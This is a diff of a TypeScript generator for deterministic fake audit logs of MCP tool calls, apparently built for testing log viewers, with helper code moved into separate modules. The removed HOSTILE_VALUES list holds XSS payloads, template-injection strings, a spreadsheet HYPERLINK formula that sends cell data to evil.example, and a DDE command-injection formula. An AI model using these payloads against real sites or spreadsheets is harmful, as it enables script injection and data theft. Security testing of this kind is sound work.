@@ -1,10 +1,7 @@
-import { createWriteStream } from 'node:fs';
-import { writeFileSync } from 'node:fs';
-import { once } from 'node:events';
-import { encodeLine } from '../../lib/codecs/json.js';
 import { EVENT_TYPES } from '../../lib/schema/tables.js';
 import type { AuditRecord, EventType, Outcome, Severity } from '../../lib/schema/record.js';
-import { HOSTILE_TEXT } from './sampleRecords.js';
+import { hex, pick, randomNumbers, uuid } from './sampleRandom.js';
+import { ACTORS, HOSTILE_VALUES, SERVERS, type Server } from './sampleWorld.js';
 
 /** What a made-up log is like. The same options give the same bytes. */
 export interface SampleLogOptions {
@@ -21,85 +18,6 @@ export interface SampleLogOptions {
   /** Leaves out some records, with a gap record for one of the holes only. */
   readonly gaps?: boolean;
 }
-
-/** Texts that run, break or turn around what shows them badly. */
-export const HOSTILE_VALUES = [
-  '</script><script>window.__pwned = 1</script>',
-  '<img src=x onerror="window.__pwned = 2">',
-  '"><svg onload=window.__pwned=3>',
-  "' onmouseover='window.__pwned=4",
-  '${window.__pwned = 5}{{constructor.constructor("window.__pwned=6")()}}',
-  'javascript:window.__pwned=7',
-  '<!--<script>',
-  ']]>--><style>body{display:none}</style>',
-  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
-  '@SUM(1+1)*cmd|"/c calc"!A0',
-  '__proto__',
-  'constructor',
-  HOSTILE_TEXT,
-] as const;
-
-/** A small generator of even random numbers (mulberry32), so that a log is the same on every machine. */
-export function randomNumbers(seed: number): () => number {
-  let state = seed >>> 0;
-  return () => {
-    state = (state + 0x6d2b79f5) >>> 0;
-    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
-    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
-    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
-  };
-}
-
-const ACTORS = [
-  ['alice@example.com', 'user', 22],
-  ['bob@example.com', 'user', 14],
-  ['carol@example.com', 'user', 9],
-  ['research-agent', 'agent', 26],
-  ['billing-agent', 'agent', 15],
-  ['nightly-sync', 'service', 11],
-  ['mallory@example.com', 'user', 3],
-] as const;
-
-const SERVERS = [
-  {
-    id: 'filesystem',
-    version: '2026.8.31',
-    address: 'npx server-filesystem',
-    transport: 'stdio',
-    tools: ['read_file', 'write_file', 'list_directory', 'search_files'],
-    resources: ['file:///srv/data/customers.csv', 'file:///srv/data/prices.json', 'file:///etc/motd'],
-    share: 40,
-  },
-  {
-    id: 'billing',
-    version: '1.4.2',
-    address: 'https://billing.example/mcp',
-    transport: 'streamable-http',
-    tools: ['create_invoice', 'refund', 'get_customer'],
-    resources: ['billing://invoices/2026', 'billing://customers'],
-    share: 28,
-  },
-  {
-    id: 'memory',
-    version: '0.9.0',
-    address: 'npx server-memory',
-    transport: 'stdio',
-    tools: ['search_nodes', 'create_entities'],
-    resources: ['memory://graph'],
-    share: 20,
-  },
-  {
-    id: 'weather',
-    version: '3.1.0',
-    address: 'https://weather.example/mcp',
-    transport: 'streamable-http',
-    tools: ['forecast'],
-    resources: ['weather://stations'],
-    share: 12,
-  },
-] as const;
-
-type Server = (typeof SERVERS)[number];
 
 /** Makes the records of a log, one after the other. */
 export function* sampleLog(options: SampleLogOptions): Generator<AuditRecord> {
@@ -142,26 +60,6 @@ interface State {
 function daily(time: number): number {
   const hour = (time / 3_600_000) % 24;
   return hour > 7 && hour < 19 ? 0.6 : 2.4;
-}
-
-function pick<T>(random: () => number, items: readonly (readonly [T, number])[]): T {
-  let point = random() * items.reduce((sum, [, share]) => sum + share, 0);
-  for (const [item, share] of items) if ((point -= share) < 0) return item;
-  return items[0]![0];
-}
-
-function hex(random: () => number, digits: number): string {
-  let text = '';
-  while (text.length < digits)
-    text += Math.floor(random() * 4294967296)
-      .toString(16)
-      .padStart(8, '0');
-  return text.slice(0, digits);
-}
-
-function uuid(random: () => number, time: number): string {
-  const stamp = time.toString(16).padStart(12, '0');
-  return `${stamp.slice(0, 8)}-${stamp.slice(8)}-7${hex(random, 3)}-8${hex(random, 3)}-${hex(random, 12)}`;
 }
 
 function base(
@@ -420,30 +318,4 @@ function poison(record: AuditRecord, text: string): AuditRecord {
     mcp: { method: 'tools/call', tool_name: text, tool_arguments: { [text]: text }, server_address: text },
     data: { [text]: [text] },
   };
-}
-
-/** The text of a log. */
-export function sampleLogText(options: SampleLogOptions): string {
-  const lines: string[] = [];
-  for (const record of sampleLog(options)) lines.push(`${encodeLine(record)}\n`);
-  return lines.join('');
-}
-
-/** Writes a small log to a file. */
-export function writeSampleLog(path: string, options: SampleLogOptions): void {
-  writeFileSync(path, sampleLogText(options));
-}
-
-/** Writes a log of any size to a file. */
-export async function streamSampleLog(path: string, options: SampleLogOptions): Promise<void> {
-  const file = createWriteStream(path);
-  let batch = '';
-  for (const record of sampleLog(options)) {
-    batch += `${encodeLine(record)}\n`;
-    if (batch.length < 1 << 20) continue;
-    if (!file.write(batch)) await once(file, 'drain');
-    batch = '';
-  }
-  file.end(batch);
-  await once(file, 'close');
 }
